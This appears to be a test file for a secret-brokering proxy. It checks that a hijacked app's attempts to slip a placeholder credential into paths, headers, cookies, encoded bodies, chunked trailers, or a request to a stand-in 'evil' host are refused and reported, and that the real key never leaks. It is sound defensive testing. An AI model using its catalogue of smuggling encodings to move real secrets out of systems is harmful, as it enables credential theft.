// An app that was taken over puts its placeholder where it hopes to read the value: nothing goes out, and each try is told.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { openBrokered, until } from '../harness/brokered.ts';
import { say } from '../harness/say.ts';
import { PLAYED, VALUES } from '../harness/values.ts';

const [REAL, HELD] = VALUES.openai;
const OTHER = VALUES.anthropic[1];
const GOOD = `Authorization: Bearer ${HELD}\r\n`;
const CLOSE = 'Connection: close\r\n';
const base64 = (text: string): string => Buffer.from(text).toString('base64');

function request(line: string, fields: string, body = ''): string {
  return `${line} HTTP/1.1\r\nHost: ${PLAYED.openai}\r\n${CLOSE}${fields}\r\n${body}`;
}
function post(body: string, framing = `Content-Length: ${body.length}\r\n`): string {
  return request('POST /echo/stored', `${GOOD}${framing}`, body);
}

/** Twenty and some places, on a connection to the host that the value is for. */
const PLACES: Readonly<Record<string, string>> = {
  path: request(`GET /${HELD}`, GOOD),
  query: request(`GET /?a=${HELD}`, GOOD),
  'an encoded query': request(`GET /?a=%73${HELD.slice(1)}`, GOOD),
  'a second header': request('GET /', `${GOOD}X-Copy: ${HELD}\r\n`),
  'the middle of a header': request('GET /', `${GOOD}X-Copy: a ${HELD} b\r\n`),
  'the name of a header': request('GET /', `${GOOD}X-${HELD}: a\r\n`),
  'a cookie': request('GET /', `${GOOD}Cookie: a=${HELD}\r\n`),
  referer: request('GET /', `${GOOD}Referer: http://a/${HELD}\r\n`),
  'user agent': request('GET /', `${GOOD}User-Agent: ${HELD}\r\n`),
  'another scheme': request('GET /', `Authorization: Token ${HELD}\r\n`),
  'no scheme': request('GET /', `Authorization: ${HELD}\r\n`),
  'a part of the value': request('GET /', `Authorization: Bearer ${HELD} more\r\n`),
  'the other part of Basic': request('GET /', `Authorization: Basic ${base64(`${HELD}:x`)}\r\n`),
  'a credential for a proxy': request('GET /', `Proxy-Authorization: Bearer ${HELD}\r\n`),
  'a header in hexadecimal': request('GET /', `${GOOD}X-Copy: ${Buffer.from(HELD).toString('hex')}\r\n`),
  'a header in base64': request('GET /', `${GOOD}X-Copy: ${base64(`ab${HELD}`)}\r\n`),
  "another secret's placeholder": request('GET /', `Authorization: Bearer ${OTHER}\r\n`),
  body: post(`{"a":"${HELD}"}`),
  'a body in base64': post(base64(`x${HELD}`)),
  'a body in hexadecimal': post(Buffer.from(HELD).toString('hex')),
  'an encoded body': post(`a=%73${HELD.slice(1)}`),
  'a body in chunks': post(
    `a\r\n${HELD.slice(0, 10)}\r\n${(HELD.length - 10).toString(16)}\r\n${HELD.slice(10)}\r\n0\r\n\r\n`,
    'Transfer-Encoding: chunked\r\n',
  ),
  'a long body': post(`${'x'.repeat(200_000)}${HELD}`),
  'a trailer': post(`1\r\na\r\n0\r\nX-Copy: ${HELD}\r\n\r\n`, 'Transfer-Encoding: chunked\r\n'),
  'beside a chunk': post(`1;a=${HELD}\r\na\r\n0\r\n\r\n`, 'Transfer-Encoding: chunked\r\n'),
};

void test('a placeholder in a wrong place takes nothing along, and is told', async (t) => {
  await using brokered = await openBrokered();
  const { ask, vault, world } = brokered;
  for (const [place, text] of Object.entries(PLACES))
    await t.test(place, async () => {
      const told = (): number => vault.words.filter(({ type }) => type === 'misplaced').length;
      const before = [told(), world.seen.length] as const;
      const answer = await ask(PLAYED.openai, text);
      assert.match(answer, /^HTTP\/1\.1 (?:403|400) /, answer);
      assert.ok(await until(() => told() > before[0]), 'nobody was told');
      // Of a body that is refused on its way the host has seen no whole request.
      assert.deepEqual(
        world.seen.slice(before[1]).filter(({ played }) => played !== undefined),
        [],
      );
      assert.equal(answer.includes(REAL), false);
    });
});

void test('a placeholder that is sent to other hosts is told where the door reads, and worth nothing where it does not', async () => {
  await using brokered = await openBrokered();
  const { door, vault, world } = brokered;
  const plain = (host: string, fields: string): string =>
    `GET http://${host}/ HTTP/1.1\r\nHost: ${host}\r\n${CLOSE}${fields}\r\n`;
  for (const host of [PLAYED.evil, PLAYED.openai, 'models.example.org'])
    assert.match(await say(door, plain(host, GOOD)), /^HTTP\/1\.1 403 /, host);
  assert.match(await say(door, plain('hub.holdfast.internal', GOOD)), /^HTTP\/1\.1 403 /);
  const body = `POST http://${PLAYED.evil}/ HTTP/1.1\r\nHost: x\r\n${CLOSE}Content-Length: ${HELD.length}\r\n\r\n${HELD}`;
  assert.match(await say(door, body), /^HTTP\/1\.1 403 /);
  assert.ok(await until(() => vault.words.length === 5));
  assert.equal(JSON.stringify(world.seen).includes('REALreal'), false);
});

void test("another run's placeholder is no more than a text", async () => {
  await using brokered = await openBrokered();
  const foreign = HELD.replace('HELD', 'HOLD');
  const answer = await brokered.ask(
    PLAYED.openai,
    request('GET /v1/models', `Authorization: Bearer ${foreign}\r\n`),
  );
  assert.match(answer, /^HTTP\/1\.1 401 /);
  assert.ok(JSON.stringify(brokered.world.seen).includes(foreign));
  assert.deepEqual(brokered.vault.words, []);
});
